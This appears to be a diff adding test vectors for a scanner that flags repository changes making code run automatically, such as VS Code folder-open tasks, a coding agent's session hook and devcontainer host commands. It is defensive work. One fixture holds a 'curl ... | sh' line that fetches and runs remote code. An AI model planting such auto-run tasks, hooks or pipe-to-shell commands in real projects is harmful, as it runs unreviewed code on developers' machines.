@@ -1,0 +1,163 @@
+import { changed, file, filesOf } from "../given.ts";
+import type { Vector } from "../vector.ts";
+
+const opening = [
+  '{ "tasks": [{',
+  '  "label": "prepare", // harmless name',
+  '  "command": "node tools/prepare.js",',
+  '  "runOptions": { "runOn": "folderOpen" },',
+  "}] }",
+];
+
+export default [
+  {
+    kind: "fires",
+    when: "a new task starts when the folder is opened",
+    given: { "change.files": changed({ ".vscode/tasks.json": opening }) },
+    expect: { outcome: "fired", severity: "critical", line: 4 },
+  },
+  {
+    kind: "fires",
+    when: "the key is written with escapes, its colon stands lines below, a comment between",
+    given: {
+      "change.files": changed({
+        ".vscode/tasks.json": [
+          '{"tasks":[{"command":"x",',
+          '"run\\u004fn"',
+          "/* a",
+          " b */",
+          ': "folder\\u004fpen"}]}',
+        ],
+      }),
+    },
+    expect: { outcome: "fired", severity: "critical", line: 5 },
+  },
+  {
+    kind: "fires",
+    when: "only the command of an existing folder-open task changes",
+    given: {
+      "change.files": filesOf(
+        file(".vscode/tasks.json", [
+          '      "runOn": "folderOpen",',
+          '-      "command": "npm ci"',
+          '+      "command": "node x.js"',
+        ]),
+      ),
+    },
+    expect: { outcome: "fired", severity: "critical" },
+  },
+  {
+    kind: "fires",
+    when: "the file is in a folder of another case",
+    given: { "change.files": changed({ ".VSCode/Tasks.json": opening }) },
+    expect: { outcome: "fired", severity: "critical" },
+  },
+  {
+    kind: "fires",
+    when: "a workspace file carries the task",
+    given: { "change.files": changed({ "wallet.code-workspace": opening }) },
+    expect: { outcome: "fired", severity: "critical" },
+  },
+  {
+    kind: "fires",
+    when: "a coding agent gets a hook",
+    given: {
+      "change.files": changed({
+        ".claude/settings.json": ['{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "sh x"}]}]}}'],
+      }),
+    },
+    expect: { outcome: "fired", severity: "critical" },
+  },
+  {
+    kind: "fires",
+    when: "a container runs a command on the host",
+    given: {
+      "change.files": changed({ ".devcontainer/devcontainer.json": ['{ "initializeCommand": ["sh", "x.sh"] }'] }),
+    },
+    expect: { outcome: "fired", severity: "critical" },
+  },
+  {
+    kind: "fires",
+    when: "a file is moved to where tasks run from",
+    given: {
+      "change.files": filesOf(
+        file(".vscode/tasks.json", [], { status: "renamed", previousPath: "docs/sample.json", hunks: [] }),
+      ),
+    },
+    expect: { outcome: "fired", severity: "high" },
+  },
+  {
+    kind: "fires",
+    when: "tasks may start without asking",
+    given: { "change.files": changed({ ".vscode/settings.json": ['{ "task.allowAutomaticTasks": "on" }'] }) },
+    expect: { outcome: "fired", severity: "high" },
+  },
+  {
+    kind: "fires",
+    when: "a shell environment file changes",
+    given: { "change.files": changed({ ".envrc": ["# local", "use flake"] }) },
+    expect: { outcome: "fired", severity: "high", line: 2 },
+  },
+  {
+    kind: "look_alike",
+    when: "a tasks.json outside the editor's folder",
+    given: { "change.files": changed({ "src/data/tasks.json": opening }) },
+    expect: { outcome: "clear" },
+  },
+  {
+    kind: "look_alike",
+    when: "the folder-open key stands in a comment",
+    given: {
+      "change.files": changed({ ".vscode/tasks.json": ["{", '// "runOn": "folderOpen"', '"version": "2.0.0" }'] }),
+    },
+    expect: { outcome: "clear" },
+  },
+  {
+    kind: "look_alike",
+    when: "editor settings that run nothing",
+    given: {
+      "change.files": changed({
+        ".vscode/settings.json": ['{ "editor.tabSize": 2, "files.exclude": { "dist": true } }'],
+      }),
+    },
+    expect: { outcome: "clear" },
+  },
+  {
+    kind: "look_alike",
+    when: "the folder-open task is taken out",
+    given: { "change.files": filesOf(file(".vscode/tasks.json", ["{", '-  "runOn": "folderOpen"', "}"])) },
+    expect: { outcome: "clear" },
+  },
+  {
+    kind: "boundary",
+    when: "a task that runs when it is clicked",
+    given: {
+      "change.files": changed({
+        ".vscode/tasks.json": ['{ "tasks": [{ "command": "npm test", "runOptions": { "runOn": "default" } }] }'],
+      }),
+    },
+    expect: { outcome: "fired", severity: "high" },
+  },
+  {
+    kind: "boundary",
+    when: "the clicked task fetches code",
+    given: {
+      "change.files": changed({
+        ".vscode/tasks.json": ['{ "tasks": [{ "command": "curl -s https://example.org/x | sh" }] }'],
+      }),
+    },
+    expect: { outcome: "fired", severity: "critical" },
+  },
+  {
+    kind: "unknown",
+    when: "the tasks file is too large to be shown",
+    given: { "change.files": filesOf(file(".vscode/tasks.json", [], { hunks: null, additions: 9000 })) },
+    expect: { outcome: "unknown" },
+  },
+  {
+    kind: "unknown",
+    when: "the list of files is cut",
+    given: { "change.files": { files: [file("a.md", ["+x"])], truncated: true } },
+    expect: { outcome: "unknown" },
+  },
+] satisfies readonly Vector[];
